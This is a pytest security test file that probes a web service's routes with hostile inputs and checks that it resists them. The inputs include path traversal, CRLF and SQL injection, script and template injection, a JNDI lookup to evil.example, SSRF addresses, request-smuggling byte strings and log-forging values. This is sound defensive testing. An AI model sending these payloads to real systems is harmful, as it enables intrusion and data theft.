"""Requests of somebody who means harm, to every route that there is: ids, bodies, names, heads, streams, keys."""

import json
import re
import socket
from collections.abc import Iterator
from contextlib import suppress
from http import HTTPStatus
from http.client import HTTPConnection
from pathlib import Path
from urllib.parse import quote, urlencode, urlsplit

import pytest

from barred.directory.snapshot import Snapshot
from tests.web.office import QUOTE, Office, form, office
from tests.web.talk import Server, running

_GIB = 1 << 30
# What is put in place of every part of an address that its caller chooses.
_IDS = (
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2fledger.sqlite",
    "..%5c..%5cwindows%5cwin.ini",
    "%00",
    "a%00.csv",
    "%0d%0aSet-Cookie:%20a=b",
    "%0aGET%20/v1/keys",
    "'%20OR%201=1%20--",
    "%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "%7B%7B7*7%7D%7D",
    "%24%7Bjndi:ldap://evil.example%7D",
    "%ff%fe",
    "%ed%a0%80",
    "%e2%80%ae",
    "99999999999999999999999999",
    "-1",
    "x" * 3000,
    "file:%2f%2f%2fetc%2fpasswd",
    "http:%2f%2f127.0.0.1:9%2f",
)
# Of a Content-Type each, what no route may fail at.
_DEEP = 100_000
_BODIES = (
    ("application/json", b"[" * _DEEP),
    ("application/json", b'{"a":' * _DEEP + b"1" + b"}" * _DEEP),
    ("application/json", b'{"reason": "\\ud800", "name": "\\u0000", "scope": "\\ud800"}'),
    ("application/json", b"\xff\xfe\x00"),
    ("application/json", b"1e999"),
    ("application/json", b"9" * 10_000),
    ("application/x-www-form-urlencoded", b"&".join(b"a%d=1" % number for number in range(5000))),
    ("application/x-www-form-urlencoded", b"reason=%00&name=%00&key=barred_%00_x&logout_token=%00&scope=%00"),
    ("application/x-www-form-urlencoded", b"reason=%ff&key=%ed%a0%80"),
    ("multipart/form-data", b"--x\r\n\r\n"),
    ("multipart/form-data; boundary=x", b'--x\r\nContent-Disposition: form-data; name="file"\r\n\r\n' + b"-" * 1000),
    ("multipart/form-data; boundary=" + "x" * 300, b"--" + b"x" * 300),
    ("multipart/form-data; boundary=x", b"--x\r\n" + b"A: b\r\n" * 5000 + b"\r\n"),
    ("application/json; charset=utf-7", b"+AHs-"),
)  # fmt: skip


@pytest.fixture(scope="module")
def narrow(snapshot: Snapshot, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Office]:
    """Give a server that reads small bodies and waits a second for heads and bodies."""
    with office(tmp_path_factory.mktemp("narrow"), snapshot.path, "--body", "20000", "--upload", "40000",
                "--body-within", "1") as found:  # fmt: skip
        yield found


def failures(found: Office) -> list[dict[str, object]]:
    """Give what the log of a server calls its own fault."""
    return [one for one in found.server.lines() if one["event"] in {"failure", "ledger out of reach"}]


def check_ids(found: Office, routes: list[tuple[str, str]]) -> None:
    """Put hostile ids into every address that takes some, and look what comes."""
    chosen = [(method, path) for method, path in routes if "{" in path]
    for method, path in chosen:
        for one in _IDS:
            address = re.sub(r"{[^}]+}", one.replace("\\", r"\\"), path)
            answer = found.ask("admin", method, address, told={} if method == "POST" else None)
            assert answer.status in {200, 404, 405, 409, 414, 422, 431}, (method, address, answer.status, answer.body)
            # The catalogue of feeds and searches may answer with nothing found, and with no file of the machine.
            assert b"root:" not in answer.body, (method, address)
            assert b"SQLite format" not in answer.body, (method, address)
            assert "set-cookie" not in answer.headers, (method, address)
            assert b"<script>alert" not in answer.body or "json" in answer.headers["content-type"], (method, address)
    assert len(chosen) > 50


def test_no_id_in_an_address_does_harm(bureau: Office, routes: list[tuple[str, str]]) -> None:
    """On both databases: files of the machine, other heads, statements, signs that a database does not keep."""
    check_ids(bureau, routes)

    assert failures(bureau) == []


def test_no_parameter_does_harm(bureau: Office, routes: list[tuple[str, str]]) -> None:
    """The same in the query of every route that is read."""
    names = ("action", "after", "before", "by", "cursor", "day", "device", "id", "lang", "most", "on", "q", "state",
             "text", "then", "head", "since", "within", "file")  # fmt: skip
    for method, path in routes:
        if method != "GET" or path == "/metrics":
            continue
        for query in (f"{name}={value}" for name in names for value in ("%00", "99999999999999999999")):
            answer = bureau.ask("admin", "GET", f"{path.replace('{', '').replace('}', '')}?{query}")
            is_said = answer.status in {HTTPStatus.NOT_IMPLEMENTED, HTTPStatus.BAD_GATEWAY}
            assert answer.status < 500 or is_said, (path, query, answer.status, answer.body)

    assert failures(bureau) == []


def test_no_body_does_harm(bureau: Office, routes: list[tuple[str, str]]) -> None:
    """Nested without end, broken, of signs that are none, of thousands of fields: the client's fault, and said so."""
    changing = [(method, path) for method, path in routes if method == "POST"]
    for method, path in changing:
        address = path.replace("{", "").replace("}", "")
        for kind, body in _BODIES:
            headers = {"Content-Type": kind, "Authorization": f"Bearer {bureau.keys['admin']}"}
            answer = bureau.server.ask(method, address, body=body, headers=headers)
            assert answer.status < 500, (path, kind, body[:60], answer.status, answer.body)

    assert len(changing) > 25
    assert failures(bureau) == []


def test_no_body_is_read_beyond_its_limit(narrow: Office, routes: list[tuple[str, str]]) -> None:
    """On every route that takes one: by what it says of its length, and piece by piece where it says nothing."""
    for method, path in routes:
        if method != "POST":
            continue
        most = 40_000 if path in {"/check", "/v1/jobs"} else 20_000
        address = path.replace("{", "").replace("}", "")
        shown = {"Authorization": f"Bearer {narrow.keys['admin']}", "Content-Type": "application/json"}
        stated = narrow.server.ask(method, address, headers={**shown, "Content-Length": str(_GIB)})
        pieces = chunked(narrow.server, address, shown, size=most + 30_000)
        assert (stated.status, pieces) == (413, 413), (path, stated.status, pieces)
        # Whoever shows no key sends no large file.
        if path == "/check":
            bare = {"Content-Type": "application/json"}
            assert chunked(narrow.server, address, bare, size=30_000) == 413


def chunked(server: Server, path: str, headers: dict[str, str], *, size: int) -> int:
    """Send a body in pieces, without saying how long it is, and give the status."""
    connection = HTTPConnection(urlsplit(server.address).netloc, timeout=60)
    pieces = (b"x" * 1000 for _ in range(size // 1000))
    try:
        # The server may have answered and hung up before all was sent.
        with suppress(OSError):
            connection.request("POST", path, body=pieces, headers=headers, encode_chunked=True)
        return connection.getresponse().status
    finally:
        connection.close()


@pytest.mark.parametrize(
    "host",
    [
        "localhost:80@evil.example", "localhost@evil.example", "evil.example#localhost", "localhost/evil.example",
        "localhost:evil.example", "localhost:", "localhost:123456", "localhost evil.example", "[::1].evil.example",
        "[::1]:80@evil.example", "evil.example:localhost", "localhost\\.evil.example", "localhost?.evil.example", "",
        "127.0.0.1.evil.example", "LOCALHOST.", "localhost,evil.example",
    ],
)  # fmt: skip
def test_no_name_leads_elsewhere(server: Server, host: str) -> None:
    """Addresses that the server tells are made with the name: it is one of its own and a port, and nothing more."""
    answers = [server.ask("GET", path, headers={"Host": host}) for path in ("/reconcile", "/feeds/changes.atom")]

    assert {one.status for one in answers} <= {400, 421}
    assert all(b"evil.example/" not in one.body for one in answers)


@pytest.mark.parametrize(
    "name",
    ["X-Forwarded-Host", "X-Forwarded-For", "Forwarded", "X-Original-URL", "X-Rewrite-URL", "X-HTTP-Method-Override"],
)
def test_what_only_a_proxy_should_say_is_not_heard(desk: Office, name: str) -> None:
    """Whoever can send it would choose the name, the address or the method."""
    value = {"Forwarded": "for=evil.example;host=evil.example", "X-HTTP-Method-Override": "POST"}.get(name, "/v1/keys")

    told = desk.server.ask("GET", "/reconcile", headers={name: value})
    kept = desk.server.ask("GET", "/v1/lookup?text=Lorex", headers={name: value})

    assert (told.status, kept.status) == (200, 200)
    assert b"evil.example" not in told.body
    assert [one["client"] for one in desk.server.lines_to(kept) if one.get("path") == "/v1/lookup"][-1] == "127.0.0.1"


@pytest.mark.parametrize(
    "raw",
    [
        b"POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: gzip\r\n\r\n0\r\n\r\n",
        b"POST /v1/check HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        b"POST /v1/check HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
        b"POST /v1/check HTTP/1.1\r\nHost: localhost\r\nContent-Length: +5\r\n\r\nabcde",
        b"POST /v1/check HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5, 6\r\n\r\nabcde",
        b"POST /v1/check HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1\r\n\r\n",
        b"POST /v1/check HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\nx",
        b"POST /v1/check HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n\r\n",
        b"GET /v1/keys HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n\r\n",
        b"GET /v1/keys HTTP/1.1\r\n\r\n",
        b"GET /v1/keys HTTP/1.1\r\nHost: localhost\r\n X-Folded: yes\r\n\r\n",
        b"GET /v1/keys\rHTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"GET http://evil.example/v1/keys HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"GET localhost:80/v1/keys HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"CONNECT evil.example:443 HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"GET * HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"TRACE / HTTP/1.1\r\nHost: localhost\r\nX-Api-Key: secret\r\n\r\n",
        b"get /v1/keys HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"post /v1/keys HTTP/1.1\r\nHost: localhost\r\nContent-Length: 2\r\n\r\n{}",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    ],
)
def test_what_two_readers_might_read_differently_is_refused(desk: Office, raw: bytes) -> None:
    """Each is one request at most, and a bad one: nothing of it is taken for a second."""
    # A request in its body must not be answered by itself.
    told = sent(desk.server, raw + b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")

    first = told.split(b"\r\n", 1)[0]
    assert re.match(rb"HTTP/1\.1 (4\d\d|5\d\d) |$", first), told[:200]
    assert b"secret" not in told
    assert failures(desk) == []


def sent(server: Server, raw: bytes) -> bytes:
    """Send bytes on a connection of their own, and give all that comes back."""
    port = urlsplit(server.address).port or 0
    told = b""
    with socket.create_connection(("127.0.0.1", port), timeout=60) as connection, suppress(OSError):
        connection.sendall(raw)
        connection.shutdown(socket.SHUT_WR)
        while piece := connection.recv(1 << 16):
            told += piece
    return told


@pytest.mark.parametrize("begun", [b"", b"GET /he", b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-A: b\r\n"])
@pytest.mark.parametrize("is_second", [False, True], ids=["first request", "second request"])
def test_a_head_that_does_not_come_is_not_waited_for(narrow: Office, begun: bytes, *, is_second: bool) -> None:
    """Sign by sign or not at all, on a new connection or on one that was answered before: the server hangs up."""
    port = urlsplit(narrow.server.address).port or 0
    whole = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"
    with socket.create_connection(("127.0.0.1", port), timeout=30) as connection:
        if is_second:
            connection.sendall(whole)
            answer = b""
            while not answer.endswith(b"}"):
                answer += connection.recv(1 << 16)
            assert answer.startswith(b"HTTP/1.1 200")
            begun = begun or b"G"
        connection.sendall(begun)
        connection.settimeout(0.3)
        told = b"nothing yet"
        # Signs that come one by one do not make it wait longer.
        for _ in range(40):
            with suppress(TimeoutError):
                told = connection.recv(1)
                break
            with suppress(OSError):
                connection.sendall(b"x" if begun else b"")

    assert told == b""
    assert narrow.server.get("/healthz").status == 200


def test_streams_are_counted_for_each_who_asks(desk: Office) -> None:
    """One who opens ever more of them is told to wait; another person's begins; when they end there is room again."""
    job = desk.job("reader")
    theirs = desk.job("curator")
    path = f"/v1/jobs/{job}/events"
    opened = [stream(desk, "reader", path) for _ in range(20)]
    statuses = [answer.split(b" ")[1] for _, answer in opened]
    other, told = stream(desk, "curator", f"/v1/jobs/{theirs}/events")
    other.close()
    for connection, _ in opened:
        connection.close()

    assert (statuses.count(b"200"), statuses.count(b"429")) == (16, 4)
    assert told.startswith(b"HTTP/1.1 200")
    desk.ask("reader", "POST", f"/v1/jobs/{job}/cancel")
    desk.ask("curator", "POST", f"/v1/jobs/{theirs}/cancel")
    again, told = stream(desk, "reader", path)
    again.close()
    assert told.startswith(b"HTTP/1.1 200")


def stream(found: Office, role: str, path: str) -> tuple[socket.socket, bytes]:
    """Open a stream of events, and give it with the first of what came."""
    connection = socket.create_connection(("127.0.0.1", urlsplit(found.server.address).port or 0), timeout=30)
    head = f"GET {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {found.keys[role]}\r\n\r\n"
    connection.sendall(head.encode())
    return connection, connection.recv(1 << 16)


def test_a_repeated_request_is_that_of_one_person(desk: Office) -> None:
    """The same key for it gives nobody the job of another, however names and keys are put together."""
    made = {name: desk.ask("admin", "POST", "/v1/keys", told={"name": name, "role": "reader"}).told["key"]
            for name in ("till", "till: one")}  # fmt: skip
    body = form("quote.csv", QUOTE, {"as": "us/federal/executive-agency", "to": "procure", "on": "2024-01-01"})
    kind = "multipart/form-data; boundary=a-line-that-no-file-holds"

    def job(name: str, once: str) -> str:
        headers = {"Authorization": f"Bearer {made[name]}", "Content-Type": kind, "Idempotency-Key": once}
        answer = desk.server.ask("POST", "/v1/jobs", body=body, headers=headers)
        assert answer.status == 202, answer.body
        return str(answer.told["id"])

    jobs = [job("till: one", "two"), job("till", "one: two"), job("till", "two"), job("till: one", "two")]

    assert jobs[0] == jobs[3]
    assert len(set(jobs)) == 3


def test_the_list_of_another_is_not_gone_on_with(desk: Office) -> None:
    """Where a list goes on is told by a check of one's own; that of another is as none."""
    job = desk.job("curator")
    desk.work()
    check = desk.done("curator", job)["check"]

    own = desk.ask("curator", "GET", f"/v1/checks?before={check}")
    theirs, none = (desk.ask("reader", "GET", f"/v1/checks?before={one}") for one in (check, "check-999999"))

    assert (own.status, theirs.status, none.status) == (200, 404, 404)
    assert theirs.told["detail"].replace(check, "check-999999") == none.told["detail"]


def test_an_etag_opens_nothing(desk: Office) -> None:
    """Whoever may not read a page is told so, and not that it is still the same."""
    for path in ("/waivers", "/v1/waivers", "/keys.json", "/sessions.csv", "/v1/log"):
        for tag in ("*", desk.ask("", "GET", "/about").headers["etag"]):
            answer = desk.ask("", "GET", path, If_None_Match=tag, Accept="application/json")
            assert (answer.status, "etag" in answer.headers) == (401, False), (path, tag)


def test_lines_of_the_log_cannot_be_forged(desk: Office) -> None:
    """Addresses, methods and headers that hold line ends and quotes are one line of JSON each, without secrets."""
    before = len(desk.server.lines_to(desk.server.get("/v1/count")))
    secret = "barred_0123456789_never-to-be-written"  # noqa: S105 - it opens nothing
    forged = quote('\n{"time":"x","level":"info","event":"signed in"}\r\n\x1b[31m')
    for path in (f"/{forged}", f"/v1/jobs/{forged}", f"/static/{forged}", f"/reconcile/{secret}{forged}"):
        desk.server.ask("GET", path, headers={"X-Request-ID": 'a"},{"b', "User-Agent": "a\tb"})
    desk.server.ask("GET", f"/v1/lookup?text={secret}", headers={"Authorization": f"Bearer {secret}", "Cookie": secret})
    desk.server.ask("POST", "/sign-in", body=urlencode({"key": secret}))
    last = desk.server.ask("GET", f"/sign-in?then=/{forged}")

    lines = desk.server.lines_to(last)[before:]
    raw = desk.server.log.read_text("utf-8")
    assert len(lines) == 7
    assert {one["event"] for one in lines} <= {"request", "sign-in refused"}
    assert "never-to-be-written" not in raw
    assert "\x1b" not in raw


def test_a_proxy_with_tls_gets_cookies_that_stay_behind_it(snapshot: Snapshot, tmp_path: Path) -> None:
    """Under the name that it passes on: Secure, for that host alone, and no other site's plants one."""
    with office(tmp_path, snapshot.path, "--name", "barred.example") as found:
        body = urlencode({"key": found.keys["reader"]})
        headers = {"Host": "barred.example", "Content-Type": "application/x-www-form-urlencoded"}
        given = found.server.ask("POST", "/sign-in", body=body, headers=headers).headers["set-cookie"]
        value = given.partition("=")[2].partition(";")[0]
        planted = found.server.ask(
            "GET", "/v1/jobs", headers={"Host": "barred.example", "Cookie": f"barred_session={value}"}
        )
        good = found.server.ask(
            "GET", "/v1/jobs", headers={"Host": "barred.example", "Cookie": f"__Host-barred_session={value}"}
        )

    assert given.startswith("__Host-barred_session=")
    assert {"Secure", "HttpOnly", "SameSite=Lax", "Path=/"} <= {one.strip() for one in given.split(";")}
    assert "Domain" not in given
    assert (planted.status, good.status) == (401, 200)


def test_each_key_and_each_address_has_its_own_rate(snapshot: Snapshot, tmp_path: Path) -> None:
    """Guesses of keys count for the address that they come from, whatever keys they try."""
    ledger = str(tmp_path / "kept.sqlite")
    with running(
        tmp_path, "--ledger", ledger, "--snapshot", str(snapshot.path), "--rate", "0.01", "--burst", "5"
    ) as server:
        statuses = [
            server.ask("GET", "/v1/jobs", headers={"Authorization": f"Bearer barred_{number:010x}_x"}).status
            for number in range(8)
        ]
        told = server.ask("GET", "/healthz")

    assert statuses == [401] * 5 + [429] * 3
    assert (told.status, json.loads(told.body)["status"]) == (429, 429)
    assert int(told.headers["retry-after"]) > 0
